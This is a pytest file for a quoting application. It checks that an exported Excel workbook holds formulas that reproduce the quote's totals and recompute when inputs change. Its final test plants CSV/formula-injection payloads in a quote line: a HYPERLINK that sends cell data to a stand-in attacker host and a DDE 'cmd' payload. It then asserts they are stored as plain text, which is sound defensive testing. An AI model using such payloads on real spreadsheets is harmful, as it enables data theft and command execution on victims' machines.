"""The workbook finance can audit (issue 18, issue 13 item 9).

The total cells hold formulas (read with openpyxl), and evaluating those
formulas with an independent engine (the ``formulas`` package, a Python
implementation of Excel's calculation) gives the revision's frozen totals, the
figures the proposal PDF prints, to the cent.  Changing a quantity in the
workbook recomputes the totals.  Text that looks like a formula stays text.
"""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from quotes.exports import revision_workbook
from quotes.pdf.sample import sample_quote_create
from quotes.workbook import result_rows

formulas = pytest.importorskip("formulas")

CENT = Decimal("0.01")
pytestmark = pytest.mark.django_db


def evaluate(content: bytes, tmp_path, name="book.xlsx") -> dict[str, Decimal | str]:
    """Every cell of the workbook as the ``formulas`` engine computes it: {"BOM!I20": value}."""
    path = tmp_path / name
    path.write_bytes(content)
    solution = formulas.ExcelModel().loads(str(path)).finish().calculate()
    out = {}
    for key, ranges in solution.items():
        if "!" not in key or ":" in key.split("!")[1]:
            continue
        sheet, cell = key.split("]", 1)[1].split("!")
        value = ranges.value[0, 0]
        if isinstance(value, (int, float)) and not isinstance(value, bool):
            value = Decimal(str(value))
        out[f"{sheet.rstrip(chr(39)).upper()}!{cell}"] = value
    return out


def cents(value) -> Decimal:
    return Decimal(value).quantize(CENT)


def label_rows(sheet, column="D") -> dict[str, int]:
    return {str(c.value): c.row for c in sheet[column] if isinstance(c.value, str)}


@pytest.fixture
def revision(engineer):
    return sample_quote_create(by=engineer, language="en")  # 16 × A3 with a 5 % discount


def test_total_cells_are_formulas_that_evaluate_to_the_revisions_totals(revision, tmp_path):
    content = revision_workbook(revision)
    book = load_workbook(io.BytesIO(content))
    bom = book["BOM"]
    rows = label_rows(bom)
    for label in ("List total", "Net total", "Discount", "VAT", "Total including VAT", "Capex"):
        assert str(bom[f"I{rows[label]}"].value).startswith("="), label
    assert bom["I2"].value == "=ROUND(E2*G2*(1-H2),2)"
    tco_sheet = book["TCO yearly"]
    assert tco_sheet["H4"].value == "=H3+G4" and tco_sheet["G2"].value == "=SUM(B2:F2)"

    values = evaluate(content, tmp_path)
    lines = list(revision.lines.order_by("position"))
    for x, line in enumerate(lines, start=2):
        assert cents(values[f"BOM!I{x}"]) == line.line_total
    assert cents(values[f"BOM!I{rows['List total']}"]) == revision.list_total
    assert cents(values[f"BOM!I{rows['Net total']}"]) == revision.net_total
    assert cents(values[f"BOM!I{rows['Discount']}"]) == -revision.discount_amount
    assert cents(values[f"BOM!I{rows['Capex']}"]) == revision.capex_total
    assert cents(values[f"BOM!I{rows['VAT']}"]) == 0  # no VAT rate in the sample's terms
    tco = revision.result_json["tco"]
    for year, row in enumerate(tco["yearly"], start=2):
        assert cents(values[f"TCO YEARLY!H{year}"]) == Decimal(row["buy_cumulative"])
        assert cents(values[f"TCO YEARLY!M{year}"]) == Decimal(row["lease_cumulative"])
    at = result_rows()
    assert cents(values[f"INPUTS!B{at['tco_buy']}"]) == revision.tco_buy_total == Decimal(tco["buy_total"])
    assert (
        cents(values[f"INPUTS!B{at['tco_lease']}"]) == revision.tco_lease_total == Decimal(tco["lease_total"])
    )
    assert cents(values[f"INPUTS!B{at['npv_buy']}"]) == Decimal(tco["npv_buy"])
    assert cents(values[f"INPUTS!B{at['npv_lease']}"]) == Decimal(tco["npv_lease"])
    # The values written beside the formulas are the same (readers that do not calculate see them).
    cached = load_workbook(io.BytesIO(content), data_only=True)
    assert cents(cached["BOM"][f"I{rows['Net total']}"].value) == revision.net_total
    assert cents(cached["Inputs"][f"B{at['npv_buy']}"].value) == Decimal(tco["npv_buy"])


def test_changing_a_quantity_or_a_rate_recomputes(revision, tmp_path):
    book = load_workbook(io.BytesIO(revision_workbook(revision)))
    bom = book["BOM"]
    rows = label_rows(bom)
    server = next(line for line in revision.lines.order_by("position") if line.category == "server")
    x = server.position + 1
    assert bom[f"E{x}"].value == float(server.quantity)
    bom[f"E{x}"].value = float(server.quantity + 1)  # one more server
    inputs = book["Inputs"]
    inputs["B3"].value = 0.13  # a 13 % VAT rate (row 3: "VAT rate")
    assert inputs["A3"].value == "VAT rate"
    out = io.BytesIO()
    book.save(out)
    values = evaluate(out.getvalue(), tmp_path, "changed.xlsx")
    # Independently: one more server at its unit price, less the 5 % quote discount on capex lines.
    extra = (server.unit_price * (1 - server.discount)).quantize(CENT)
    discount = revision.discount
    capex_lines = sum(
        (line.line_total for line in revision.lines.all() if line.category in ("server", "switch", "optics",
         "rack", "install", "other")), Decimal("0"),
    )  # fmt: skip
    quote_discount_before = (capex_lines * discount).quantize(CENT)
    quote_discount_after = ((capex_lines + extra) * discount).quantize(CENT)
    net = revision.net_total + extra - (quote_discount_after - quote_discount_before)
    assert cents(values[f"BOM!I{rows['Net total']}"]) == net
    assert cents(values[f"BOM!I{rows['VAT']}"]) == (net * Decimal("0.13")).quantize(CENT)
    assert cents(values[f"BOM!I{rows['Total including VAT']}"]) == net + (net * Decimal("0.13")).quantize(
        CENT
    )
    # The TCO follows the capex.
    capex = revision.capex_total + extra - (quote_discount_after - quote_discount_before)
    assert cents(values["TCO YEARLY!B2"]) == capex


def test_text_that_looks_like_a_formula_is_written_as_text(revision):
    hostile = {
        "description_en": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "note": "+cmd|' /C calc'!A0",
        "sku": "@SUM(1+1)",
        "unit": "-2+3",
    }
    line = revision.lines.order_by("position").first()
    for key, value in hostile.items():
        setattr(line, key, value)
    line.save()
    book = load_workbook(io.BytesIO(revision_workbook(revision)))
    bom = book["BOM"]
    header = {c.value: c.column_letter for c in bom[1]}
    cells = {
        "description_en": bom[f"{header['Description']}2"],
        "note": bom[f"{header['Note']}2"],
        "sku": bom[f"{header['SKU']}2"],
        "unit": bom[f"{header['Unit']}2"],
    }
    for key, cell in cells.items():
        assert cell.data_type == "s" and cell.value == hostile[key], key
    # Every formula in the workbook is one the workbook wrote (none came from text).
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert not any(bad in str(cell.value) for bad in ("HYPERLINK", "cmd", "@SUM")), cell
